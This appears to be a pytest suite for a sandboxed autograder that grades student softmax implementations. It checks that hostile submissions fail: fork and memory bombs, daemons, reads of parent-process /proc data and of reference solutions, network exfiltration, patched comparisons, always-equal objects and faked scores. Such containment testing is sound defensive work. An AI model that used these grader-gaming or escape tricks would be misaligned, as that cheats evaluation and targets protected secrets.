def test_no_process_survives_its_submission(run):
    assert {k: v for k, v in run.survivors.items() if v} == {}
    assert run.survivors_at_end == []
    assert run.cgroups_left == []


def test_sentinel_files_are_unchanged(run):
    assert run.sentinel_after == run.sentinel_before
    assert SECRET.encode() in (run.sentinel / "gradebook.db").read_bytes()


def test_sentinel_metadata_is_unchanged(run):
    changed = {k: (v, run.sentinel_meta_after.get(k)) for k, v in run.sentinel_meta_before.items()
               if run.sentinel_meta_after.get(k) != v}
    assert changed == {}


def test_real_solutions_are_unchanged(run):
    assert run.solutions_after == run.solutions_before


def test_nothing_was_written_outside_scratch(run):
    assert run.stray_files == []
    written = sorted(p.name for p in (run.out / "submissions").iterdir())
    assert written == sorted(f"{name}.json" for name in ORDER)
    assert run.scratch_left == [], "every scratch directory is removed after its submission"


def test_no_secret_reaches_any_result(run):
    for name, result in run.results.items():
        assert SECRET not in json.dumps(result.to_dict()), name


# --- crashes and exits ------------------------------------------------------------------------

def test_os_exit_at_import_fails_everything_and_says_so(run):
    result = run.results["os_exit_at_import"]
    assert result.points == 0
    for name in ("softmax", "softmax_backward"):
        messages = ran(result, name)
        assert len(messages) == 9
        for message in messages.values():
            assert "could not be loaded" in message and "process exited while loading your code" in (
                message) and "exit code 3" in message, message


def test_sys_exit_at_import_is_a_cell_error(run):
    result = run.results["sys_exit_at_import"]
    softmax = exercise(result, "softmax")
    assert softmax.points == 0
    assert "SystemExit" in softmax.cell_error and "leaving before softmax is defined" in softmax.cell_error
    assert all("'softmax' is not defined" in m for m in ran(result, "softmax").values())


def test_os_exit_in_function_scores_zero_with_the_exit_code(run):
    result = run.results["os_exit_in_function"]
    messages = ran(result, "softmax")
    assert exercise(result, "softmax").points == 0
    assert "process exited while running the check (exit code 7)" in messages[
        "softmax_matches_reference"]
    assert all("exit code 7" in m or "timeouts or crashes" in m for m in messages.values()), messages


def test_sys_exit_in_function_costs_the_check_that_called_it(run):
    result = run.results["sys_exit_in_function"]
    failed = {k: v for k, v in ran(result, "softmax").items() if v}
    assert list(failed) == ["softmax_1d"], failed
    assert "process exited while running the check (exit code 5)" in failed["softmax_1d"]
    assert exercise(result, "softmax").points == 7  # and the 2 points of form, withheld


# --- hangs and processes ------------------------------------------------------------------------

def _only_1d_timed_out(run: Run, name: str) -> None:
    result = run.results[name]
    failed = {k: v for k, v in ran(result, "softmax").items() if v}
    assert list(failed) == ["softmax_1d"], failed
    assert f"timed out after {CHECK_TIMEOUT} s while running the check" in failed["softmax_1d"]
    # 10 - 1 for the check, - 2 for the checks of form it withholds (a value check failed)
    assert exercise(result, "softmax").points == 7


def test_infinite_loop_costs_the_check_it_hung_in(run):
    _only_1d_timed_out(run, "infinite_loop")


def test_ignoring_sigterm_and_sigalrm_does_not_stop_the_kill(run):
    _only_1d_timed_out(run, "ignores_sigterm_and_sigalrm")


def test_fork_bomb_is_contained_and_killed(run):
    full_marks(run.results["fork_bomb"], "softmax")
    # the cgroup's pids.max (64) stopped it, not the machine's limit
    assert "FORK REFUSED after" in run.results["fork_bomb"].stdout
    assert "BlockingIOError" in run.results["fork_bomb"].stdout
    assert run.survivors["fork_bomb"] == []


def test_setsid_daemon_is_killed_and_writes_nothing(run):
    result = run.results["setsid_daemon"]
    full_marks(result, "softmax")
    assert "DAEMON READY" in result.stdout  # it ran, left the session, and was about to exec sleep
    assert run.survivors["setsid_daemon"] == []
    assert not (run.sentinel / "daemon-was-here").exists()


# --- resource limits ------------------------------------------------------------------------------

def test_memory_bomb_hits_the_limit(run):
    result = run.results["memory_bomb"]
    assert exercise(result, "softmax").points == 0
    assert all("MemoryError" in m for m in ran(result, "softmax").values()), ran(result, "softmax")


def test_huge_output_is_capped_and_harmless(run):
    result = run.results["huge_output"]
    full_marks(result, "softmax")
    assert "bytes of output not shown" in result.stdout and "bytes of output not shown" in result.stderr
    assert len(result.stdout) < 20_000 and len(result.stderr) < 20_000
    assert (run.out / "submissions" / "huge_output.json").stat().st_size < 500_000


def test_ten_gigabyte_file_stops_at_the_file_size_limit(run):
    result = run.results["ten_gigabyte_file"]
    assert exercise(result, "softmax").points == 0
    assert all("File too large" in m for m in ran(result, "softmax").values()), ran(result, "softmax")


# --- patching the comparisons -----------------------------------------------------------------

@pytest.mark.parametrize("name", ["patch_torch_wrong", "patch_numpy_testing", "patch_pytest_internals",
                                  "torch_function_subclass", "fake_results_wrong",
                                  "search_disk_for_reference", "import_grader_package",
                                  "branch_on_environment", "rng_tampering"])
def test_trick_gains_nothing_over_the_same_wrong_code(run, name):
    same_as_control(run, name)


def test_control_wrong_fails_with_value_messages(run):
    messages = ran(run.results["control_wrong"], "softmax")
    assert "values differ" in messages["softmax_matches_reference"]
    assert "sum to 1" in messages["softmax_large_logits"]


def test_patching_torch_with_correct_code_keeps_full_marks(run):
    full_marks(run.results["patch_torch_correct"], "softmax")


def test_lying_tensor_subclass_is_compared_as_plain_zeros(run):
    messages = ran(run.results["torch_function_subclass"], "softmax")
    assert "values differ" in messages["softmax_matches_reference"]


def test_always_equal_object_is_not_a_tensor(run):
    result = run.results["always_equal_object"]
    messages = ran(result, "softmax")
    assert "returned a AlwaysEqual object, expected tensor" in messages["softmax_matches_reference"]
    # test_softmax_is_your_own only asks that no built-in softmax was called
    assert passed(result, "softmax") == {"softmax_is_your_own"}
    assert exercise(result, "softmax").points == 0  # withheld: no value is right


# --- fake output ----------------------------------------------------------------------------------

def test_fake_results_are_just_output(run):
    wrong, correct = run.results["fake_results_wrong"], run.results["fake_results_correct"]
    full_marks(correct, "softmax")
    for result in (wrong, correct):
        assert "PASSED 10/10" in result.stdout and "PASSED 10/10" in result.stderr
        assert '"points": 20.0' in result.stdout
    assert wrong.points == 10 and correct.points == 20


# --- reading and writing what is not theirs -----------------------------------------------------------

def test_reference_and_gradebook_are_unreadable(run):
    result = run.results["search_disk_for_reference"]
    text = out_text(result)
    for path in read_targets(run.sentinel):
        # Landlock refuses (PermissionError); as root, the solutions are not even mounted
        assert (f"READ {path} -> PermissionError" in text
                or (os.geteuid() == 0 and path.startswith(str(SOLUTIONS))
                    and f"READ {path} -> FileNotFoundError" in text)), (path, text)
    assert SECRET not in text and "def softmax" not in text
    assert "FOUND 0" in text, text


def test_gradebook_solutions_and_results_are_not_writable(run):
    result = run.results["write_gradebook_and_results"]
    text = out_text(result)
    full_marks(result, "softmax")
    for path in sentinel_targets(run.sentinel):
        for action in ("APPEND", "TRUNCATE", "RENAME", "REMOVE", "CHOWN"):
            line = f"{action} {path} -> "
            assert line in text and f"{line}OK" not in text, (line, text)
    # CHMOD, UTIME and SETXATTR: see test_sentinel_metadata_is_unchanged
    for action in ("CREATE sentinel", "MKDIR sentinel", "WRITE THROUGH SYMLINK", "HARDLINK",
                   "CREATE solutions", "CREATE tmp", "FORGE RESULT"):
        assert f"{action} -> " in text and f"{action} -> OK" not in text, (action, text)


def test_parent_process_is_out_of_reach(run):
    result = run.results["read_parent_proc"]
    text = out_text(result)
    full_marks(result, "softmax")
    for what in ("environ", "cmdline", "status", "maps", "mem"):
        assert f"PROC parent {what} -> PermissionError" in text, text
    for what in ("PROC 1 environ", "PROC parent cwd", "PROC parent fd"):
        assert f"{what} -> PermissionError" in text, text
    for what in ("SIGNAL parent 0", "SIGNAL parent USR1"):
        assert f"{what} -> PermissionError" in text, text
    assert run.signals == []
    env = json.loads(next(line for line in result.stdout.splitlines() if line.startswith("ENV "))[4:])
    assert set(env) <= SCRUBBED_ENV | LIBRARY_ENV, env
    assert SECRET not in text


def test_importing_the_grader_does_not_reach_the_reference(run):
    text = out_text(run.results["import_grader_package"])
    assert "IMPORT GRADER -> OK" not in text
    assert "IMPORT GRADER -> " in text, text


def test_tcp_is_refused_and_nothing_arrives(run):
    result = run.results["network"]
    text = out_text(result)
    full_marks(result, "softmax")
    assert "TCP CONNECT -> PermissionError" in text, text
    assert "TCP LISTEN -> PermissionError" in text, text
    assert run.tcp_connections == 0


def test_udp_is_refused_and_nothing_arrives(run):
    text = out_text(run.results["network"])
    assert "UDP SEND -> OK" not in text
    assert not [d for d in run.udp_datagrams if MARK.encode() in d]


def test_environment_is_scrubbed_so_branching_on_it_gains_nothing(run):
    result = run.results["branch_on_environment"]
    keys = json.loads(next(line for line in result.stdout.splitlines()
                           if line.startswith("ENV KEYS "))[len("ENV KEYS "):])
    assert set(keys) <= SCRUBBED_ENV | LIBRARY_ENV, keys
    tells = json.loads(next(line for line in result.stdout.splitlines()
                            if line.startswith("ENV TELLS "))[len("ENV TELLS "):])
    assert tells == []


# --- the "implement it yourself" rule -------------------------------------------------------------


@pytest.mark.parametrize("name", ["builtin_softmax_hidden_from_recorder", "builtin_softmax_via_aten"])
def test_hidden_builtin_softmax_loses_the_points(run, name):
    messages = ran(run.results[name], "softmax")
    message = messages["softmax_is_your_own"]
    assert "calls the built-in" in message or "switches off PyTorch's function hooks" in message, messages
    assert run.results[name].exercises[0].points == 0


# --- the configuration the brief first asked for ---------------------------------------------------

def test_a_memory_limit_too_small_for_torch_is_not_blamed_on_the_student():
    """A worker that dies before any student code runs stops grading with the grader's error."""
    config = replace(CONFIG, sandbox=replace(CONFIG.sandbox, memory_bytes=2 * GIB))
    with pytest.raises(SandboxStartError, match="failed before running any student code") as info:
        grade_submission(Submission("reference", ASSIGNMENT.notebook), assignment=ASSIGNMENT,
                         config=config)
    assert "--memory-gib" in str(info.value)
